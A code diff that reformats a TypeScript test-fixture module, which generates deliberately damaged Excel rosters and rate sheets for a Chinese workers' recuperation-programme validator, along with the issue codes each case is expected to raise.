@@ -63,14 +63,110 @@ const d = (y: number, m: number, day: number) => dayToSerial({ y, m, d: day });
 /** Sheet rows 3..10 (title row 1, header row 2). Columns A..L as in ROSTER_HEADER. */
 export function baseRoster(): Cell[][] {
   const rows: Cell[][] = [
-    ["张伟", "男", idOf("19850312", "011"), "玉溪高新区管委会", "是", "企业一线职工", "W1", "第1批", d(2024, 7, 10), "13812345678", ""],
-    ["李娜", "女", idOf("19900521", "022"), "玉溪某机械制造厂", "否", "事业单位干部职工", "W1", "第1批", d(2024, 8, 5), "13912345678", ""],
-    ["王强", "男", idOf("19820115", "033"), "云南玉溪某制药有限公司", "是", "技术能手", "W2", "第1批", d(2024, 9, 1), "15012345678", ""],
-    ["刘芳", "女", idOf("19880808", "044"), "玉溪某快递网点", "是", "快递会员", "W3", "第1批", d(2024, 6, 20), "18612345678", ""],
-    ["陈杰", "男", idOf("19790401", "055"), "高新区社区卫生服务中心", "否", "城市困难职工解困脱困工作人员", "W4", "第1批", d(2024, 10, 8), "17712345678", ""],
-    ["杨敏", "女", idOf("19920229", "066"), "高新区某电子科技公司", "是", "在职职工会员、劳模", "N1", "第2批", d(2024, 9, 15), "19912345678", ""],
-    ["赵磊", "男", idOf("19870630", "077"), "玉溪某建设集团", "是", "在职职工会员", "市内疗休养", "第2批", d(2024, 11, 20), "13712345678", ""],
-    ["黄丽", "女", idOf("19950909", "088"), "高新区某食品公司", "是", "机关干部职工", "W1", "第2批", d(2024, 6, 1), "13612345678", ""],
+    [
+      "张伟",
+      "男",
+      idOf("19850312", "011"),
+      "玉溪高新区管委会",
+      "是",
+      "企业一线职工",
+      "W1",
+      "第1批",
+      d(2024, 7, 10),
+      "13812345678",
+      "",
+    ],
+    [
+      "李娜",
+      "女",
+      idOf("19900521", "022"),
+      "玉溪某机械制造厂",
+      "否",
+      "事业单位干部职工",
+      "W1",
+      "第1批",
+      d(2024, 8, 5),
+      "13912345678",
+      "",
+    ],
+    [
+      "王强",
+      "男",
+      idOf("19820115", "033"),
+      "云南玉溪某制药有限公司",
+      "是",
+      "技术能手",
+      "W2",
+      "第1批",
+      d(2024, 9, 1),
+      "15012345678",
+      "",
+    ],
+    [
+      "刘芳",
+      "女",
+      idOf("19880808", "044"),
+      "玉溪某快递网点",
+      "是",
+      "快递会员",
+      "W3",
+      "第1批",
+      d(2024, 6, 20),
+      "18612345678",
+      "",
+    ],
+    [
+      "陈杰",
+      "男",
+      idOf("19790401", "055"),
+      "高新区社区卫生服务中心",
+      "否",
+      "城市困难职工解困脱困工作人员",
+      "W4",
+      "第1批",
+      d(2024, 10, 8),
+      "17712345678",
+      "",
+    ],
+    [
+      "杨敏",
+      "女",
+      idOf("19920229", "066"),
+      "高新区某电子科技公司",
+      "是",
+      "在职职工会员、劳模",
+      "N1",
+      "第2批",
+      d(2024, 9, 15),
+      "19912345678",
+      "",
+    ],
+    [
+      "赵磊",
+      "男",
+      idOf("19870630", "077"),
+      "玉溪某建设集团",
+      "是",
+      "在职职工会员",
+      "市内疗休养",
+      "第2批",
+      d(2024, 11, 20),
+      "13712345678",
+      "",
+    ],
+    [
+      "黄丽",
+      "女",
+      idOf("19950909", "088"),
+      "高新区某食品公司",
+      "是",
+      "机关干部职工",
+      "W1",
+      "第2批",
+      d(2024, 6, 1),
+      "13612345678",
+      "",
+    ],
   ];
   return rows.map((r, i) => [i + 1, ...r]);
 }
@@ -80,12 +176,40 @@ export const BASE_HEADCOUNTS = { W1: 3, W2: 1, W3: 1, W4: 1, N1: 2 };
 /** 花名册, 项目费率, 预算 — the valid base. */
 export function baseSheets(): SheetSpec[] {
   // Deep copies: the sample's budget rows are a shared constant, and cases edit rows in place.
-  return sampleSheets(baseRoster()).map((s) => ({ ...s, header: [...s.header], rows: s.rows.map((r) => [...r]) }));
+  return sampleSheets(baseRoster()).map((s) => ({
+    ...s,
+    header: [...s.header],
+    rows: s.rows.map((r) => [...r]),
+  }));
 }
 
 // Column indexes in the base sheets (0-based, values arrays).
-const R = { seq: 0, name: 1, gender: 2, id: 3, unit: 4, member: 5, cats: 6, program: 7, batch: 8, date: 9, phone: 10, note: 11 };
-const T = { code: 0, name: 1, start: 4, end: 5, quota: 6, per: 7, prov: 8, city: 9, own: 10, transport: 11 };
+const R = {
+  seq: 0,
+  name: 1,
+  gender: 2,
+  id: 3,
+  unit: 4,
+  member: 5,
+  cats: 6,
+  program: 7,
+  batch: 8,
+  date: 9,
+  phone: 10,
+  note: 11,
+};
+const T = {
+  code: 0,
+  name: 1,
+  start: 4,
+  end: 5,
+  quota: 6,
+  per: 7,
+  prov: 8,
+  city: 9,
+  own: 10,
+  transport: 11,
+};
 /** Base rate rows by code → index. */
 const P = { W1: 0, W2: 1, W3: 2, W4: 3, N1: 4 };
 
@@ -103,7 +227,8 @@ function edit(fn: (s: Sheets) => void): () => Made {
   };
 }
 const setRoster = (k: number, col: number, v: Cell) => edit((s) => (roster(s).rows[k][col] = v));
-const setRate = (code: keyof typeof P, col: number, v: Cell) => edit((s) => (rates(s).rows[P[code]][col] = v));
+const setRate = (code: keyof typeof P, col: number, v: Cell) =>
+  edit((s) => (rates(s).rows[P[code]][col] = v));
 
 const id0 = () => baseRoster()[0][R.id] as string;
 const id1 = () => baseRoster()[1][R.id] as string;
@@ -111,32 +236,84 @@ const id1 = () => baseRoster()[1][R.id] as string;
 const ROSTER_REQUIRED = ["姓名", "身份证号", "工作单位", "是否会员", "人员类别", "疗休养项目"];
 const headerMissing = (sheetName: string, n = ROSTER_REQUIRED.length): ExpectedIssue[] =>
   new Array(n).fill(0).map(() => ({ code: "HEADER_MISSING" as IssueCode, sheet: sheetName }));
-const at = (code: IssueCode, cell: string, sheetName = "花名册", says?: string): ExpectedIssue => ({ code, sheet: sheetName, cell, ...(says ? { says } : {}) });
+const at = (code: IssueCode, cell: string, sheetName = "花名册", says?: string): ExpectedIssue => ({
+  code,
+  sheet: sheetName,
+  cell,
+  ...(says ? { says } : {}),
+});
 
 // ---------------------------------------------------------------- the cases
 
 export const CASES: CaseDef[] = [
   // --- the valid base itself, so every damage is measured against a clean run
-  { file: "00-base-valid.xlsx", damage: "none (the valid base)", exit: 0, expected: [], headcounts: BASE_HEADCOUNTS, make: edit(() => {}) },
+  {
+    file: "00-base-valid.xlsx",
+    damage: "none (the valid base)",
+    exit: 0,
+    expected: [],
+    headcounts: BASE_HEADCOUNTS,
+    make: edit(() => {}),
+  },
 
   // --- missing sheets
-  { file: "sheet-missing-roster.xlsx", damage: "no roster sheet", exit: 1, expected: [{ code: "SHEET_MISSING", sheet: "花名册" }], headcounts: { W1: 0, N1: 0 }, make: edit((s) => s.splice(0, 1)) },
-  { file: "sheet-missing-rates.xlsx", damage: "no rate sheet", exit: 1, expected: [{ code: "SHEET_MISSING", sheet: "项目费率" }], make: edit((s) => s.splice(1, 1)) },
+  {
+    file: "sheet-missing-roster.xlsx",
+    damage: "no roster sheet",
+    exit: 1,
+    expected: [{ code: "SHEET_MISSING", sheet: "花名册" }],
+    headcounts: { W1: 0, N1: 0 },
+    make: edit((s) => s.splice(0, 1)),
+  },
+  {
+    file: "sheet-missing-rates.xlsx",
+    damage: "no rate sheet",
+    exit: 1,
+    expected: [{ code: "SHEET_MISSING", sheet: "项目费率" }],
+    make: edit((s) => s.splice(1, 1)),
+  },
   {
     file: "sheet-missing-both.xlsx",
     damage: "only an unrelated sheet and the budget",
     exit: 1,
-    expected: [{ code: "SHEET_MISSING", sheet: "花名册" }, { code: "SHEET_MISSING", sheet: "项目费率" }],
-    make: edit((s) => s.splice(0, 2, { name: "说明", header: ["本工作簿用于汇总"], rows: [["请勿删除"]] })),
+    expected: [
+      { code: "SHEET_MISSING", sheet: "花名册" },
+      { code: "SHEET_MISSING", sheet: "项目费率" },
+    ],
+    make: edit((s) =>
+      s.splice(0, 2, { name: "说明", header: ["本工作簿用于汇总"], rows: [["请勿删除"]] })
+    ),
   },
-  { file: "roster-sheet-blank.xlsx", damage: "花名册 sheet exists but is blank", exit: 1, expected: headerMissing("花名册"), headcounts: { W1: 0 }, make: edit((s) => (s[0] = { name: "花名册", header: [], rows: [] })) },
-  { file: "roster-header-only.xlsx", damage: "empty roster (header, no people)", exit: 0, expected: [], headcounts: { W1: 0, W2: 0, W3: 0, W4: 0, N1: 0 }, make: edit((s) => (roster(s).rows = [])) },
-  { file: "roster-one-row.xlsx", damage: "a roster of one row", exit: 0, expected: [], headcounts: { W1: 1, W2: 0, N1: 0 }, make: edit((s) => (roster(s).rows = roster(s).rows.slice(0, 1))) },
+  {
+    file: "roster-sheet-blank.xlsx",
+    damage: "花名册 sheet exists but is blank",
+    exit: 1,
+    expected: headerMissing("花名册"),
+    headcounts: { W1: 0 },
+    make: edit((s) => (s[0] = { name: "花名册", header: [], rows: [] })),
+  },
+  {
+    file: "roster-header-only.xlsx",
+    damage: "empty roster (header, no people)",
+    exit: 0,
+    expected: [],
+    headcounts: { W1: 0, W2: 0, W3: 0, W4: 0, N1: 0 },
+    make: edit((s) => (roster(s).rows = [])),
+  },
+  {
+    file: "roster-one-row.xlsx",
+    damage: "a roster of one row",
+    exit: 0,
+    expected: [],
+    headcounts: { W1: 1, W2: 0, N1: 0 },
+    make: edit((s) => (roster(s).rows = roster(s).rows.slice(0, 1))),
+  },
 
   // --- layout: header position, header spelling, column order, blank rows
   {
     file: "header-row5-merged-title.xlsx",
-    damage: "roster header on row 5 under a title merged over rows 1-4 (sentinel: bad check digit, 2nd person)",
+    damage:
+      "roster header on row 5 under a title merged over rows 1-4 (sentinel: bad check digit, 2nd person)",
     exit: 1,
     expected: [at("ID_CHECKSUM", "D7")],
     headcounts: BASE_HEADCOUNTS,
@@ -179,17 +356,41 @@ export const CASES: CaseDef[] = [
   },
   {
     file: "headers-fullwidth-spaces-units.xlsx",
-    damage: "headers with full-width letters, spaces and units （元） (sentinel: bad check digit, 1st person)",
+    damage:
+      "headers with full-width letters, spaces and units （元） (sentinel: bad check digit, 1st person)",
     exit: 1,
     expected: [at("ID_CHECKSUM", "D3")],
     headcounts: BASE_HEADCOUNTS,
     make: edit((s) => {
       const r = roster(s);
-      r.header = ["序　号", "姓 名", "性别", "身份证号码（18位）", " 工作单位 ", "是否会员（Ｙ/Ｎ）", "人员类别", "疗休养项目（编号）", "批次", "疗休养日期", "联系电话（ＴＥＬ）", "备注"];
+      r.header = [
+        "序　号",
+        "姓 名",
+        "性别",
+        "身份证号码（18位）",
+        " 工作单位 ",
+        "是否会员（Ｙ/Ｎ）",
+        "人员类别",
+        "疗休养项目（编号）",
+        "批次",
+        "疗休养日期",
+        "联系电话（ＴＥＬ）",
+        "备注",
+      ];
       r.rows[0][R.id] = flipCheck(r.rows[0][R.id] as string);
       const t = rates(s);
       t.header = t.header.map((h) =>
-        h === "名额" ? "名　额（人）" : h === "人均标准（元）" ? "人均标准（元/人）" : h === "省总工会承担" ? "省总工会承担（元）" : h === "往返交通费（元）" ? "往返交通费 （元）" : h === "项目编号" ? "＊项目编号" : h,
+        h === "名额"
+          ? "名　额（人）"
+          : h === "人均标准（元）"
+            ? "人均标准（元/人）"
+            : h === "省总工会承担"
+              ? "省总工会承担（元）"
+              : h === "往返交通费（元）"
+                ? "往返交通费 （元）"
+                : h === "项目编号"
+                  ? "＊项目编号"
+                  : h
       );
     }),
   },
@@ -209,16 +410,43 @@ export const CASES: CaseDef[] = [
   },
   {
     file: "blank-and-whitespace-rows.xlsx",
-    damage: "a blank row and a whitespace-only row inside the roster (sentinel: bad check digit after them)",
+    damage:
+      "a blank row and a whitespace-only row inside the roster (sentinel: bad check digit after them)",
     exit: 1,
     expected: [at("ID_CHECKSUM", "D8")],
     headcounts: BASE_HEADCOUNTS,
     make: edit((s) => {
       const r = roster(s);
       r.rows[3][R.id] = flipCheck(r.rows[3][R.id] as string);
-      const ws: Cell[] = [null, "   ", "\u3000", " ", "\t", "", "  ", "\u00a0", null, null, " ", null];
+      const ws: Cell[] = [
+        null,
+        "   ",
+        "\u3000",
+        " ",
+        "\t",
+        "",
+        "  ",
+        "\u00a0",
+        null,
+        null,
+        " ",
+        null,
+      ];
       r.rows.splice(3, 0, new Array(12).fill(null), ws);
-      r.rows.push(new Array(12).fill(null), ["  ", null, null, null, null, null, null, null, null, null, null, null]);
+      r.rows.push(new Array(12).fill(null), [
+        "  ",
+        null,
+        null,
+        null,
+        null,
+        null,
+        null,
+        null,
+        null,
+        null,
+        null,
+        null,
+      ]);
     }),
   },
   {
@@ -227,9 +455,21 @@ export const CASES: CaseDef[] = [
     exit: 0,
     expected: [],
     headcounts: BASE_HEADCOUNTS,
-    make: edit((s) => roster(s).rows.push(["合计", "8人", null, null, null, null, null, null, null, null, null, null], ["制表人：张三", null, null, null, null, null, null, null, null, null, null, null])),
+    make: edit((s) =>
+      roster(s).rows.push(
+        ["合计", "8人", null, null, null, null, null, null, null, null, null, null],
+        ["制表人：张三", null, null, null, null, null, null, null, null, null, null, null]
+      )
+    ),
   },
-  { file: "header-missing-unit.xlsx", damage: "no 工作单位 column", exit: 1, expected: [{ code: "HEADER_MISSING", sheet: "花名册" }], headcounts: BASE_HEADCOUNTS, make: edit((s) => dropColumn(roster(s), R.unit)) },
+  {
+    file: "header-missing-unit.xlsx",
+    damage: "no 工作单位 column",
+    exit: 1,
+    expected: [{ code: "HEADER_MISSING", sheet: "花名册" }],
+    headcounts: BASE_HEADCOUNTS,
+    make: edit((s) => dropColumn(roster(s), R.unit)),
+  },
   {
     file: "header-below-10-rows.xlsx",
     damage: "roster header under 10 lines of notes (beyond the 10 non-blank rows scanned)",
@@ -267,28 +507,121 @@ export const CASES: CaseDef[] = [
   },
   {
     file: "merged-unit-cells.xlsx",
-    damage: "工作单位 merged over the first two people (Excel gives the value to the top cell only)",
+    damage:
+      "工作单位 merged over the first two people (Excel gives the value to the top cell only)",
     exit: 1,
     expected: [at("MISSING_REQUIRED", "E4")],
     headcounts: BASE_HEADCOUNTS,
-    make: () => ({ sheets: baseSheets(), post: (wb) => wb.getWorksheet("花名册")!.mergeCells("E3:E4") }),
+    make: () => ({
+      sheets: baseSheets(),
+      post: (wb) => wb.getWorksheet("花名册")!.mergeCells("E3:E4"),
+    }),
   },
 
   // --- ID numbers
-  { file: "id-as-number.xlsx", damage: "ID typed as a number (Excel keeps 15 digits)", exit: 1, expected: [at("ID_NUMERIC_PRECISION", "D4", "花名册", "Excel只保留15位有效数字")], make: setRoster(1, R.id, Number(id1().slice(0, 15) + "000")) },
-  { file: "id-lowercase-x.xlsx", damage: "ID ending in a lowercase x", exit: 0, expected: [], make: setRoster(0, R.id, "53040219850312019x") },
-  { file: "id-fullwidth-digits.xlsx", damage: "ID in full-width digits", exit: 0, expected: [], make: setRoster(1, R.id, toFullWidth(id1())) },
-  { file: "id-surrounding-spaces.xlsx", damage: "ID with leading/trailing spaces, an ideographic space and a leading apostrophe", exit: 0, expected: [], make: edit((s) => ((roster(s).rows[0][R.id] = "  " + id0() + "\u3000"), (roster(s).rows[1][R.id] = "'" + id1()))) },
-  { file: "id-inner-spaces.xlsx", damage: "ID with spaces inside", exit: 1, expected: [at("ID_FORMAT", "D4", "花名册", "不是18位")], make: setRoster(1, R.id, `${id1().slice(0, 6)} ${id1().slice(6, 14)} ${id1().slice(14)}`) },
-  { file: "id-inner-dashes.xlsx", damage: "ID with dashes inside", exit: 1, expected: [at("ID_FORMAT", "D4")], make: setRoster(1, R.id, `${id1().slice(0, 6)}-${id1().slice(6, 14)}-${id1().slice(14)}`) },
-  { file: "id-15-digit-text.xlsx", damage: "first-generation 15-digit ID as text", exit: 0, expected: [at("ID_15_DIGIT", "D3")], make: setRoster(0, R.id, "530402850312011") },
-  { file: "id-15-digit-number.xlsx", damage: "15-digit ID typed as a number", exit: 0, expected: [at("ID_15_DIGIT", "D3")], make: setRoster(0, R.id, 530402850312011) },
-  { file: "id-17-digits.xlsx", damage: "ID one digit short", exit: 1, expected: [at("ID_FORMAT", "D4")], make: setRoster(1, R.id, id1().slice(0, 17)) },
-  { file: "id-letters.xlsx", damage: "ID that is not a number at all", exit: 1, expected: [at("ID_FORMAT", "D4")], make: setRoster(1, R.id, "护照E12345678") },
-  { file: "id-impossible-birthdate.xlsx", damage: "ID with birth date 1990-02-30", exit: 1, expected: [at("ID_BIRTHDATE", "D4", "花名册", "出生日期不存在（第7至14位为19900230）")], make: setRoster(1, R.id, idOf("19900230", "022")) },
-  { file: "id-future-birthdate.xlsx", damage: "ID with birth date 2090-01-01", exit: 1, expected: [at("ID_BIRTHDATE", "D4", "花名册", "出生日期在未来（第7至14位为20900101）")], make: setRoster(1, R.id, idOf("20900101", "022")) },
-  { file: "id-checksum.xlsx", damage: "ID with a wrong check digit", exit: 1, expected: [at("ID_CHECKSUM", "D4")], make: setRoster(1, R.id, flipCheck(id1())) },
-  { file: "id-blank.xlsx", damage: "ID cell left blank", exit: 1, expected: [at("MISSING_REQUIRED", "D4")], make: setRoster(1, R.id, null) },
+  {
+    file: "id-as-number.xlsx",
+    damage: "ID typed as a number (Excel keeps 15 digits)",
+    exit: 1,
+    expected: [at("ID_NUMERIC_PRECISION", "D4", "花名册", "Excel只保留15位有效数字")],
+    make: setRoster(1, R.id, Number(id1().slice(0, 15) + "000")),
+  },
+  {
+    file: "id-lowercase-x.xlsx",
+    damage: "ID ending in a lowercase x",
+    exit: 0,
+    expected: [],
+    make: setRoster(0, R.id, "53040219850312019x"),
+  },
+  {
+    file: "id-fullwidth-digits.xlsx",
+    damage: "ID in full-width digits",
+    exit: 0,
+    expected: [],
+    make: setRoster(1, R.id, toFullWidth(id1())),
+  },
+  {
+    file: "id-surrounding-spaces.xlsx",
+    damage: "ID with leading/trailing spaces, an ideographic space and a leading apostrophe",
+    exit: 0,
+    expected: [],
+    make: edit(
+      (s) => (
+        (roster(s).rows[0][R.id] = "  " + id0() + "\u3000"),
+        (roster(s).rows[1][R.id] = "'" + id1())
+      )
+    ),
+  },
+  {
+    file: "id-inner-spaces.xlsx",
+    damage: "ID with spaces inside",
+    exit: 1,
+    expected: [at("ID_FORMAT", "D4", "花名册", "不是18位")],
+    make: setRoster(1, R.id, `${id1().slice(0, 6)} ${id1().slice(6, 14)} ${id1().slice(14)}`),
+  },
+  {
+    file: "id-inner-dashes.xlsx",
+    damage: "ID with dashes inside",
+    exit: 1,
+    expected: [at("ID_FORMAT", "D4")],
+    make: setRoster(1, R.id, `${id1().slice(0, 6)}-${id1().slice(6, 14)}-${id1().slice(14)}`),
+  },
+  {
+    file: "id-15-digit-text.xlsx",
+    damage: "first-generation 15-digit ID as text",
+    exit: 0,
+    expected: [at("ID_15_DIGIT", "D3")],
+    make: setRoster(0, R.id, "530402850312011"),
+  },
+  {
+    file: "id-15-digit-number.xlsx",
+    damage: "15-digit ID typed as a number",
+    exit: 0,
+    expected: [at("ID_15_DIGIT", "D3")],
+    make: setRoster(0, R.id, 530402850312011),
+  },
+  {
+    file: "id-17-digits.xlsx",
+    damage: "ID one digit short",
+    exit: 1,
+    expected: [at("ID_FORMAT", "D4")],
+    make: setRoster(1, R.id, id1().slice(0, 17)),
+  },
+  {
+    file: "id-letters.xlsx",
+    damage: "ID that is not a number at all",
+    exit: 1,
+    expected: [at("ID_FORMAT", "D4")],
+    make: setRoster(1, R.id, "护照E12345678"),
+  },
+  {
+    file: "id-impossible-birthdate.xlsx",
+    damage: "ID with birth date 1990-02-30",
+    exit: 1,
+    expected: [at("ID_BIRTHDATE", "D4", "花名册", "出生日期不存在（第7至14位为19900230）")],
+    make: setRoster(1, R.id, idOf("19900230", "022")),
+  },
+  {
+    file: "id-future-birthdate.xlsx",
+    damage: "ID with birth date 2090-01-01",
+    exit: 1,
+    expected: [at("ID_BIRTHDATE", "D4", "花名册", "出生日期在未来（第7至14位为20900101）")],
+    make: setRoster(1, R.id, idOf("20900101", "022")),
+  },
+  {
+    file: "id-checksum.xlsx",
+    damage: "ID with a wrong check digit",
+    exit: 1,
+    expected: [at("ID_CHECKSUM", "D4")],
+    make: setRoster(1, R.id, flipCheck(id1())),
+  },
+  {
+    file: "id-blank.xlsx",
+    damage: "ID cell left blank",
+    exit: 1,
+    expected: [at("MISSING_REQUIRED", "D4")],
+    make: setRoster(1, R.id, null),
+  },
   {
     file: "id-duplicate-spelled-differently.xlsx",
     damage: "the same person twice, ID once with X and once with x",
@@ -323,9 +656,27 @@ export const CASES: CaseDef[] = [
       INJECTION_NAMES.forEach((n, k) => (r.rows[k][R.name] = n));
     }),
   },
-  { file: "gender-mismatch.xlsx", damage: "性别 disagrees with the ID", exit: 0, expected: [at("GENDER_MISMATCH", "C3")], make: setRoster(0, R.gender, "女") },
-  { file: "phone-format.xlsx", damage: "a 7-digit phone number", exit: 0, expected: [at("PHONE_FORMAT", "K3")], make: setRoster(0, R.phone, "1381234") },
-  { file: "unit-blank.xlsx", damage: "工作单位 blank", exit: 1, expected: [at("MISSING_REQUIRED", "E5")], make: setRoster(2, R.unit, "  ") },
+  {
+    file: "gender-mismatch.xlsx",
+    damage: "性别 disagrees with the ID",
+    exit: 0,
+    expected: [at("GENDER_MISMATCH", "C3")],
+    make: setRoster(0, R.gender, "女"),
+  },
+  {
+    file: "phone-format.xlsx",
+    damage: "a 7-digit phone number",
+    exit: 0,
+    expected: [at("PHONE_FORMAT", "K3")],
+    make: setRoster(0, R.phone, "1381234"),
+  },
+  {
+    file: "unit-blank.xlsx",
+    damage: "工作单位 blank",
+    exit: 1,
+    expected: [at("MISSING_REQUIRED", "E5")],
+    make: setRoster(2, R.unit, "  "),
+  },
   {
     file: "possible-duplicate.xlsx",
     damage: "same name and unit under two different IDs",
@@ -352,15 +703,71 @@ export const CASES: CaseDef[] = [
   },
 
   // --- rate cells
-  { file: "rate-divide-by-zero.xlsx", damage: "share 1/0", exit: 1, expected: [at("RATE_INVALID", "I7", "项目费率")], headcounts: BASE_HEADCOUNTS, make: setRate("N1", T.prov, "1/0") },
-  { file: "rate-abc.xlsx", damage: "share abc", exit: 1, expected: [at("RATE_INVALID", "I3", "项目费率")], make: setRate("W1", T.prov, "abc") },
-  { file: "rate-unicode-minus.xlsx", damage: "per-person cost −3000 (Unicode minus, as text)", exit: 1, expected: [at("RATE_INVALID", "H3", "项目费率", "不能为负数")], make: setRate("W1", T.per, "−3000") },
-  { file: "rate-negative-number.xlsx", damage: "share −800 as a number", exit: 1, expected: [at("RATE_INVALID", "K3", "项目费率")], make: setRate("W1", T.own, -800) },
-  { file: "rate-110-percent.xlsx", damage: "share 110%", exit: 1, expected: [at("RATE_INVALID", "J7", "项目费率")], make: setRate("N1", T.city, "110%") },
-  { file: "rate-shares-mismatch.xlsx", damage: "shares 2000+800 for a 3000 cost", exit: 1, expected: [at("RATE_SHARES_MISMATCH", "I3", "项目费率")], headcounts: BASE_HEADCOUNTS, make: setRate("W1", T.prov, 2000) },
-  { file: "rate-two-rest.xlsx", damage: "two payers marked 其余", exit: 1, expected: [at("RATE_INVALID", "K7", "项目费率")], make: setRate("N1", T.city, "其余") },
-  { file: "rate-quota-text.xlsx", damage: "名额 written 五十人", exit: 1, expected: [at("RATE_INVALID", "G3", "项目费率")], make: setRate("W1", T.quota, "五十人") },
-  { file: "rate-per-person-blank.xlsx", damage: "人均标准 blank", exit: 1, expected: [at("MISSING_REQUIRED", "H4", "项目费率")], make: setRate("W2", T.per, null) },
+  {
+    file: "rate-divide-by-zero.xlsx",
+    damage: "share 1/0",
+    exit: 1,
+    expected: [at("RATE_INVALID", "I7", "项目费率")],
+    headcounts: BASE_HEADCOUNTS,
+    make: setRate("N1", T.prov, "1/0"),
+  },
+  {
+    file: "rate-abc.xlsx",
+    damage: "share abc",
+    exit: 1,
+    expected: [at("RATE_INVALID", "I3", "项目费率")],
+    make: setRate("W1", T.prov, "abc"),
+  },
+  {
+    file: "rate-unicode-minus.xlsx",
+    damage: "per-person cost −3000 (Unicode minus, as text)",
+    exit: 1,
+    expected: [at("RATE_INVALID", "H3", "项目费率", "不能为负数")],
+    make: setRate("W1", T.per, "−3000"),
+  },
+  {
+    file: "rate-negative-number.xlsx",
+    damage: "share −800 as a number",
+    exit: 1,
+    expected: [at("RATE_INVALID", "K3", "项目费率")],
+    make: setRate("W1", T.own, -800),
+  },
+  {
+    file: "rate-110-percent.xlsx",
+    damage: "share 110%",
+    exit: 1,
+    expected: [at("RATE_INVALID", "J7", "项目费率")],
+    make: setRate("N1", T.city, "110%"),
+  },
+  {
+    file: "rate-shares-mismatch.xlsx",
+    damage: "shares 2000+800 for a 3000 cost",
+    exit: 1,
+    expected: [at("RATE_SHARES_MISMATCH", "I3", "项目费率")],
+    headcounts: BASE_HEADCOUNTS,
+    make: setRate("W1", T.prov, 2000),
+  },
+  {
+    file: "rate-two-rest.xlsx",
+    damage: "two payers marked 其余",
+    exit: 1,
+    expected: [at("RATE_INVALID", "K7", "项目费率")],
+    make: setRate("N1", T.city, "其余"),
+  },
+  {
+    file: "rate-quota-text.xlsx",
+    damage: "名额 written 五十人",
+    exit: 1,
+    expected: [at("RATE_INVALID", "G3", "项目费率")],
+    make: setRate("W1", T.quota, "五十人"),
+  },
+  {
+    file: "rate-per-person-blank.xlsx",
+    damage: "人均标准 blank",
+    exit: 1,
+    expected: [at("MISSING_REQUIRED", "H4", "项目费率")],
+    make: setRate("W2", T.per, null),
+  },
   {
     file: "rate-duplicate-code.xlsx",
     damage: "programme code W1 on two rows",
@@ -374,7 +781,10 @@ export const CASES: CaseDef[] = [
     file: "rates-code-header-misspelled.xlsx",
     damage: "rate sheet header 项目代号 instead of 项目编号 (programmes then known by name only)",
     exit: 1,
-    expected: [{ code: "HEADER_MISSING", sheet: "项目费率" }, ...["H3", "H4", "H5", "H6", "H7", "H8", "H10"].map((c) => at("UNKNOWN_PROGRAM", c))],
+    expected: [
+      { code: "HEADER_MISSING", sheet: "项目费率" },
+      ...["H3", "H4", "H5", "H6", "H7", "H8", "H10"].map((c) => at("UNKNOWN_PROGRAM", c)),
+    ],
     headcounts: { 市内疗休养: 1 },
     make: edit((s) => (rates(s).header[T.code] = "项目代号")),
   },
@@ -387,7 +797,8 @@ export const CASES: CaseDef[] = [
   },
   {
     file: "payer-latin-letters.xlsx",
-    damage: "a payer column in Latin letters: ＡＢＣ集团承担 (full-width), transport paid by abc集团",
+    damage:
+      "a payer column in Latin letters: ＡＢＣ集团承担 (full-width), transport paid by abc集团",
     exit: 0,
     expected: [],
     payers: ["省总工会", "市总工会", "ABC集团"],
@@ -414,12 +825,51 @@ export const CASES: CaseDef[] = [
   },
 
   // --- programmes in the roster
-  { file: "program-by-name.xlsx", damage: "programme given by its name", exit: 0, expected: [], headcounts: BASE_HEADCOUNTS, make: setRoster(0, R.program, "一线职工疗休养") },
-  { file: "program-fullwidth-code.xlsx", damage: "programme code in full-width letters with a space: Ｗ １", exit: 0, expected: [], headcounts: BASE_HEADCOUNTS, make: setRoster(0, R.program, "ｗ １") },
-  { file: "program-unknown.xlsx", damage: "a programme not in the rate sheet", exit: 1, expected: [at("UNKNOWN_PROGRAM", "H3")], headcounts: { ...BASE_HEADCOUNTS, W1: 2 }, make: setRoster(0, R.program, "温泉疗养") },
-  { file: "not-eligible.xlsx", damage: "category not in the programme's 参加对象", exit: 1, expected: [at("NOT_ELIGIBLE", "G3")], make: setRoster(0, R.cats, "退休职工") },
-  { file: "not-member.xlsx", damage: "not a member in W3 (membership required)", exit: 1, expected: [at("NOT_MEMBER", "F6")], make: setRoster(3, R.member, "否") },
-  { file: "member-blank.xlsx", damage: "是否会员 blank in W3", exit: 1, expected: [at("MISSING_REQUIRED", "F6")], make: setRoster(3, R.member, null) },
+  {
+    file: "program-by-name.xlsx",
+    damage: "programme given by its name",
+    exit: 0,
+    expected: [],
+    headcounts: BASE_HEADCOUNTS,
+    make: setRoster(0, R.program, "一线职工疗休养"),
+  },
+  {
+    file: "program-fullwidth-code.xlsx",
+    damage: "programme code in full-width letters with a space: Ｗ １",
+    exit: 0,
+    expected: [],
+    headcounts: BASE_HEADCOUNTS,
+    make: setRoster(0, R.program, "ｗ １"),
+  },
+  {
+    file: "program-unknown.xlsx",
+    damage: "a programme not in the rate sheet",
+    exit: 1,
+    expected: [at("UNKNOWN_PROGRAM", "H3")],
+    headcounts: { ...BASE_HEADCOUNTS, W1: 2 },
+    make: setRoster(0, R.program, "温泉疗养"),
+  },
+  {
+    file: "not-eligible.xlsx",
+    damage: "category not in the programme's 参加对象",
+    exit: 1,
+    expected: [at("NOT_ELIGIBLE", "G3")],
+    make: setRoster(0, R.cats, "退休职工"),
+  },
+  {
+    file: "not-member.xlsx",
+    damage: "not a member in W3 (membership required)",
+    exit: 1,
+    expected: [at("NOT_MEMBER", "F6")],
+    make: setRoster(3, R.member, "否"),
+  },
+  {
+    file: "member-blank.xlsx",
+    damage: "是否会员 blank in W3",
+    exit: 1,
+    expected: [at("MISSING_REQUIRED", "F6")],
+    make: setRoster(3, R.member, null),
+  },
   {
     file: "member-booleans.xlsx",
     damage: "是否会员 as TRUE/FALSE booleans (FALSE in W3)",
@@ -435,20 +885,74 @@ export const CASES: CaseDef[] = [
     headcounts: { W4: 3 },
     make: edit((s) => {
       const r = roster(s);
-      r.rows.push([9, "周平", "男", idOf("19830303", "099"), "高新区某物流公司", "是", "城市困难职工解困脱困工作人员", "W4", "第1批", d(2024, 10, 8), "13512345678", ""]);
-      r.rows.push([10, "吴霞", "女", idOf("19860606", "102"), "玉溪某烟草配套企业", "是", "城市困难职工解困脱困工作人员", "W4", "第1批", d(2024, 10, 8), "13512345679", ""]);
+      r.rows.push([
+        9,
+        "周平",
+        "男",
+        idOf("19830303", "099"),
+        "高新区某物流公司",
+        "是",
+        "城市困难职工解困脱困工作人员",
+        "W4",
+        "第1批",
+        d(2024, 10, 8),
